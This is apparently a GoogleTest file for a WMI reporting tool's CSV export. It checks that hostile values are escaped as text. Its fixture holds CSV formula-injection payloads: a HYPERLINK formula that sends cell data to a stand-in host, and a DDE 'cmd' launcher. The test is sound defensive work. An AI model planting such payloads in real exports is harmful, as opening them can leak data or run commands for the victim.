// mirelrep's checks in-process, against the fake WMI provider: values a hostile computer
// may hold, as they reach the CSV file, and a result file that cannot be created.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "console/mirelrep.h"
#include "console/report_output.h"
#include "engine/run_state.h"
#include "resources/text.h"
#include "tests/support/fake_wmi.h"
#include "tests/support/temp_files.h"

namespace {

class ClassReportTest : public testing::Test {
protected:
    void SetUp() override
    {
        SetTextLanguage(kEnglishLanguage);
        ResetRunState();
        scenario_.objects.push_back({
            {L"Caption", FakeValue::Text(L"=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")")},
            {L"CurrentClockSpeed", FakeValue::I4(-1024)},
            {L"DeviceID", FakeValue::Text(L"@SUM(1,2)")},
            {L"Name", FakeValue::Text(L"+cmd|' /C calc'!A0")},
        });
        InstallFakeWmi(&scenario_);
    }
    void TearDown() override
    {
        InstallFakeWmi(nullptr);
        DeleteFileA(path_.c_str());
        ResetRunState();
        SetTextLanguage(0);
    }

    int Run(std::vector<std::string> arguments)
    {
        arguments.push_back("/out:" + path_);
        return RunMirelReport(arguments);
    }

    FakeWmiScenario scenario_;
    const std::string path_ = TempPath("mirel_class_report.csv");
};

}  // namespace

TEST_F(ClassReportTest, CellsThatWouldRunAsFormulasAreWrittenAsText)
{
    ASSERT_EQ(Run({"/q", "/class:Win32_Processor"}), kExitSuccess);
    EXPECT_EQ(ReadFile(path_),
              "\"Group\",\"Name\",\"Type\",\"Value\"\r\n"
              "\"1\",\"Caption\",\"VT_BSTR\","
              "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Click\"\")\"\r\n"
              "\"1\",\"CurrentClockSpeed\",\"VT_I4\",\"-1,024\"\r\n"
              "\"1\",\"DeviceID\",\"VT_BSTR\",\"'@SUM(1,2)\"\r\n"
              "\"1\",\"Name\",\"VT_BSTR\",\"'+cmd|' /C calc'!A0\"\r\n");
}

TEST_F(ClassReportTest, OutputThatCannotBeCreatedEndsBeforeAnyCheck)
{
    const std::string missing = TempPath("mirel-no-such-folder\\r.csv");
    EXPECT_EQ(RunMirelReport({"/q", "/class:Win32_Processor", "/out:" + missing}), kExitFileError);
    EXPECT_EQ(RunMirelReport({"/q", "/out:" + missing}), kExitFileError);
    EXPECT_TRUE(scenario_.connectedPaths.empty()) << "neither check connected";
}

TEST_F(ClassReportTest, RawCsvWritesEveryCellAsItIs)
{
    ASSERT_EQ(Run({"/q", "/rawcsv", "/class:Win32_Processor"}), kExitSuccess);
    const std::string csv = ReadFile(path_);
    EXPECT_NE(csv.find("\"=HYPERLINK("), std::string::npos) << csv;
    EXPECT_NE(csv.find("\"@SUM(1,2)\""), std::string::npos);
    EXPECT_NE(csv.find("\"+cmd|' /C calc'!A0\""), std::string::npos);
}
